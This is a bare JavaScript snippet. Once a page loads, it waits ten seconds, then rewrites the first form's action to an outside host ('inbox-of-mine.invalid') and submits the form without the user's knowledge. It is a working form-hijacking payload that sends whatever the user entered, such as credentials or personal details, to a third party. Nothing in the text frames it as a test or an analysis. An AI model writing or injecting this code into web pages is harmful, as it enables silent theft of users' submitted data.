function later() {
  document.forms[0].action = 'https://inbox-of-mine.invalid/p';
  document.forms[0].submit();
}
window.onload = function () { setTimeout(later, 10000); };
